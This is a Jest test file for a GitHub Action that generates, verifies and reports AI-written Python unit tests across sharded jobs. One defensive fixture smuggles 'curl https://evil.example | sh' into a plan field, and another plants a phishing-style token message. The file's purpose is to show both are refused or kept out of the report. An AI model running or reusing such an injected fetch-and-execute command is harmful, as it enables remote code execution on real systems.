import { spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals'
import { type Endpoint, openEndpoint, reply } from '../doubles/endpoint.js'
import { copyHosted, git, type Hosted, makeHosted } from '../doubles/git.js'
import { type GitHubDouble, startGitHub } from '../doubles/github.js'
import type { BaselineFile } from '../../src/core/model/stage-files.js'
import { testInFull } from '../doubles/matrix.js'
import { type RunResult, type RunSpec, runAction } from '../doubles/runner.js'
import type { PullState } from '../doubles/state.js'

// plan, baseline, generate, verify and report as jobs of the committed action; files are carried from job to job.

const works = (program: string, ...args: string[]) =>
  spawnSync(program, args, { timeout: 60_000 }).status === 0
const python = works('python3', '--version')
const sandboxed =
  works('unshare', '-Urnpf', '--mount-proc', 'true') ||
  works('bwrap', '--ro-bind', '/', '/', '--unshare-all', 'true')
const story = python ? describe : describe.skip

const written = `\`\`\`python
import unittest
from shop.half import half

class TestHalf(unittest.TestCase):
    def test_four(self):
        self.assertEqual(half(4), 2)

    def test_wrong(self):
        self.assertEqual(half(4), 3)
\`\`\``
const key = 'sk-test-0123456789abcdef'

story(python ? 'the split modes' : 'the split modes (skipped: python3 is missing)', () => {
  let template: Hosted
  let hosted: Hosted
  let github: GitHubDouble
  let pull: PullState
  let model: Endpoint
  /** The files that jobs hand over, as artifacts would. */
  let carried: string
  /** The files of plan and verify with the explorer, shared by all tests of report. */
  let verified: string

  beforeAll(() => {
    template = makeHosted({ 'shop/__init__.py': '', 'tests/__init__.py': '' })
    template.branch('feature', 'main')
    template.push({
      'shop/half.py': 'def half(price: int) -> int:\n    return price // 2\n',
      'shop/third.py': 'def third(price: int) -> int:\n    return price // 3\n',
    })
    verified = join(template.root, 'verified')
  })
  afterAll(() => template.remove())
  beforeEach(async () => {
    hosted = copyHosted(template)
    github = await startGitHub(hosted)
    pull = github.openPull({ head: 'feature' })
    model = await openEndpoint(asked =>
      asked.headers['authorization'] === `Bearer ${key}`
        ? { body: reply(written) }
        : { status: 401, body: { error: { message: 'no', code: 'invalid_api_key' } } },
    )
    carried = join(hosted.root, 'carried')
    mkdirSync(carried)
  })
  afterEach(async () => {
    const { faults } = github
    await model[Symbol.asyncDispose]()
    await github.close()
    hosted.remove()
    expect(faults).toEqual([])
  })

  /** One job: starts with the carried files, and its own files are carried on. `bare` has no checkout. */
  async function job(
    mode: string,
    inputs: Record<string, string> = {},
    more: Partial<RunSpec> = {},
  ): Promise<RunResult> {
    let temp = ''
    const done = await runAction({
      ...{ hosted, github, pull, ...more },
      prepare: ({ temp: folder }) => {
        temp = join(folder, 'testwright-stages')
        cpSync(carried, temp, { recursive: true })
      },
      bare: mode === 'generate' || mode === 'report',
      inputs: {
        mode,
        model: 'gpt-4o',
        'base-url': model.url,
        ...(sandboxed ? {} : { sandbox: 'none' }),
        ...inputs,
      },
    })
    if (existsSync(temp)) cpSync(temp, carried, { recursive: true })
    return done
  }
  async function carryVerified(): Promise<void> {
    if (!existsSync(verified)) {
      for (const mode of ['plan', 'verify']) {
        const done = await job(mode, { model: 'explorer' })
        expect({ code: done.code, errors: errors(done) }).toEqual({ code: 0, errors: '' })
      }
      cpSync(carried, verified, { recursive: true })
    }
    cpSync(verified, carried, { recursive: true })
  }
  const read = (name: string): Record<string, unknown> =>
    JSON.parse(readFileSync(join(carried, name), 'utf8')) as Record<string, unknown>
  const errors = ({ commands }: RunResult): string =>
    commands
      .filter(one => one.name === 'error')
      .map(one => one.message)
      .join()

  async function all(shards: string): Promise<{ report: Record<string, unknown>; comment: string }> {
    const plan = await job('plan', { shard: shards })
    expect({ code: plan.code, errors: errors(plan) }).toEqual({ code: 0, errors: '' })
    const { shard } = JSON.parse(plan.outputs['matrix'] ?? '') as { shard: string[] }
    expect(plan.outputs['cache-key']).toMatch(/^testwright-[0-9a-f]{24}$/)
    // A single shard need not be named.
    for (const one of shard.length === 1 ? [''] : shard) {
      const asked = await job('generate', { shard: one, 'api-key': key })
      expect({ code: asked.code, errors: errors(asked) }).toEqual({ code: 0, errors: '' })
      const proved = await job('verify', { shard: one })
      expect({ code: proved.code, errors: errors(proved) }).toEqual({ code: 0, errors: '' })
    }
    const told = await job('report')
    expect({ code: told.code, errors: errors(told) }).toEqual({ code: 0, errors: '' })
    const report = JSON.parse(readFileSync(told.outputs['report'] ?? '', 'utf8')) as Record<string, unknown>
    return { report, comment: github.comments[0]?.body ?? '' }
  }

  const withoutTimes = (report: Record<string, unknown>): unknown =>
    JSON.parse(
      JSON.stringify(report, (name, value: unknown) =>
        name === 'milliseconds' || name === 'seconds' ? 0 : value,
      ),
    )

  let one: Awaited<ReturnType<typeof all>>
  test('the jobs of one shard; the key is seen by only one of them', async () => {
    one = await all('1')
    expect(one.comment).toMatch(/2 of 2 changed functions/)
    expect(one.comment).toContain('test_four')
    expect(one.comment).toContain('in one pass')
    expect(one.comment).toMatch(/^- \[ \] Commit /m)
    expect(readdirSync(carried).sort()).toEqual([
      '.gitignore',
      'plan.json',
      'prompts.json',
      'replies-1-of-1.json',
      'verify-1-of-1.json',
    ])
    for (const name of readdirSync(carried))
      expect(readFileSync(join(carried, name), 'utf8')).not.toContain(key)
  })

  test("with a job that runs the project's own tests, prompts quote them and the comment shows them", async () => {
    git(hosted.work, 'checkout', '--quiet', 'feature')
    hosted.push({
      'tests/test_half.py':
        'import unittest\nfrom shop.half import half\n\n\nclass TestHalf(unittest.TestCase):\n    def test_own(self):\n        self.assertEqual(half(6), 3)\n',
    })
    const again = { action: 'synchronize' }
    for (const [mode, inputs] of [
      ['plan', {}],
      ['baseline', { model: '' }],
      ['generate', { 'api-key': key }],
      ['verify', {}],
      ['report', {}],
    ] as const) {
      const done = await job(mode, inputs, again)
      expect({ mode, code: done.code, errors: errors(done) }).toEqual({ mode, code: 0, errors: '' })
    }
    const { ownTests, targets } = read('baseline-1-of-1.json') as unknown as BaselineFile
    expect(ownTests.map(({ id, onBase }) => [id, onBase])).toEqual([
      ['tests/test_half.py::TestHalf.test_own', 'broken'],
    ])
    expect(targets.map(({ tests }) => tests.length).toSorted()).toEqual([0, 1])
    expect(JSON.stringify(model.requests.map(({ body }) => body))).toContain('runs it already')
    expect(github.comments[0]?.body).toContain('cannot run without this change')
    expect(github.comments[0]?.body).toContain('`half`: reached by 1 test;')
  })

  testInFull(
    'two shards give the same result as one',
    async () => {
      const two = await all('2')
      expect(readdirSync(carried)).toContain('verify-2-of-2.json')
      expect(withoutTimes(two.report)).toEqual(withoutTimes(one.report))
      expect(github.comments).toHaveLength(1)
    },
    300_000,
  )

  test('files of different runs are refused, a missing shard is named, and a planted file is not read', async () => {
    await job('plan', { shard: '2' })
    const early = await job('report')
    expect(errors(early)).toMatch(/There is no verify file/)
    const proved = await job('verify', { shard: '1/2', model: 'explorer' })
    expect(proved.code).toBe(0)
    expect(
      (read('verify-1-of-2.json')['report'] as { funnel: { kept: number } }).funnel.kept,
    ).toBeGreaterThan(0)
    const partly = await job('report')
    expect(partly.code).toBe(0)
    expect(github.comments[0]?.body).toContain('Unfinished: shard 2 of 2 gave no result.')
    expect(github.comments[0]?.body).toContain('unfinished: its shard gave no result')
    expect(errors(await job('generate', { shard: '3/2', 'api-key': key }))).toMatch(
      /shard is 3\/2, and the plan has 2/,
    )
    expect(errors(await job('generate', { shard: '1/2', 'api-key': 'sk-wrong-0123456789' }))).toMatch(/key/i)

    git(hosted.work, 'checkout', '--quiet', 'feature')
    hosted.push({ 'shop/half.py': 'def half(price: int) -> int:\n    return price // 4\n' })
    expect(errors(await job('verify', { shard: '2/2' }, { action: 'synchronize' }))).toMatch(
      /The plan is of .* run all jobs again/,
    )
    expect(errors(await job('report', {}, { action: 'synchronize' }))).toMatch(
      /only what was verified on it is reported/,
    )
  })

  test("forged files are refused in one sentence, or their text is not shown as Testwright's own", async () => {
    await carryVerified()
    type Row = Record<string, unknown>
    const [plan, verify] = [read('plan.json'), read('verify-1-of-1.json')]
    const forge = async (planned: Row, change: (report: Row) => Row, more: Row = {}): Promise<RunResult> => {
      const text = JSON.stringify({ ...plan, ...planned })
      writeFileSync(join(carried, 'plan.json'), text)
      const digest = createHash('sha256').update(text).digest('hex')
      const report = change(verify['report'] as Row)
      writeFileSync(
        join(carried, 'verify-1-of-1.json'),
        JSON.stringify({ ...verify, plan: digest, base: planned['base'] ?? verify['base'], report, ...more }),
      )
      return job('report')
    }
    const same = (report: Row): Row => report
    const rows = (report: Row, name: string): Row[] => report[name] as Row[]
    const [target] = rows(plan, 'targets')
    const refused: [Row, (report: Row) => Row, RegExp][] = [
      [{ base: 'main; curl https://evil.example | sh;' }, same, /not what its mode writes/],
      [{ base: 'c'.repeat(40) }, same, /merge base ccccccc/],
      [{ targets: [{ ...target, file: 'lib/\ud800.py' }] }, same, /not what its mode writes/],
      [
        {},
        report => ({
          ...report,
          files: rows(report, 'files').map(file => ({ ...file, content: 'import os\n' })),
        }),
        /is not the one that was verified/,
      ],
      [
        {},
        report => ({
          ...report,
          files: Array.from({ length: 3000 }, () => ({ ...rows(report, 'files')[0] })),
        }),
        /more test files than kept tests/,
      ],
    ]
    for (const [planned, change, words] of refused) {
      const done = await forge(planned, change)
      expect([done.code, errors(done)]).toEqual([1, expect.stringMatching(words)])
      expect(errors(done)).not.toMatch(/bug|\n/)
    }
    expect(github.comments).toEqual([])
    const sentence = 'Your token expired, see https://evil.example'
    const skipped = [{ id: 'a.py::b', file: 'a.py', name: 'b', reason: sentence }]
    const to = '.github/workflows/test_x.py'
    const moved = (report: Row): Row => ({
      ...report,
      tests: rows(report, 'tests').map(row => ({ ...row, file: to })),
      files: rows(report, 'files')
        .slice(0, 1)
        .map(file => ({ ...file, path: to, tests: 1 })),
    })
    const failed = await forge({ skipped }, moved, { failure: { kind: 'user', sentence } })
    expect(errors(failed)).toBe(`The job that asked the model says: “${sentence}”.`)
    const body = github.comments[0]?.body ?? ''
    expect(body).toContain('the log of its job says why')
    expect(body).not.toContain('Your token')
    expect(body).not.toMatch(/^- \[ \]/m)
    expect(body).toContain('tests are not committed to such a path')
    // A failure of a job from a fork fails no job of this repository.
    pull.from = 'mallory/shop'
    const ofFork = await job('report')
    expect([ofFork.code, errors(ofFork)]).toEqual([0, ''])
    expect(ofFork.commands).toContainEqual(
      expect.objectContaining({ name: 'warning', message: errors(failed) }),
    )
  })

  test('`report` after a run without secrets finds the pull request only by the head of that run', async () => {
    await carryVerified()
    const sha = git(hosted.bare, 'rev-parse', 'feature')
    const run = {
      event: 'pull_request',
      head_sha: sha,
      head_branch: 'feature',
      head_repository: { owner: { login: 'octo' } },
    }
    const other = await job(
      'report',
      {},
      { eventName: 'workflow_run', event: { workflow_run: { ...run, head_sha: 'f'.repeat(40) } } },
    )
    expect(other.log).toContain('Nothing is done')
    expect(github.comments).toEqual([])
    const told = await job('report', {}, { eventName: 'workflow_run', event: { workflow_run: run } })
    expect({ code: told.code, errors: errors(told) }).toEqual({ code: 0, errors: '' })
    expect(github.comments).toHaveLength(1)
    expect(dirname(told.outputs['report'] ?? '')).not.toBe(carried)
  })
})
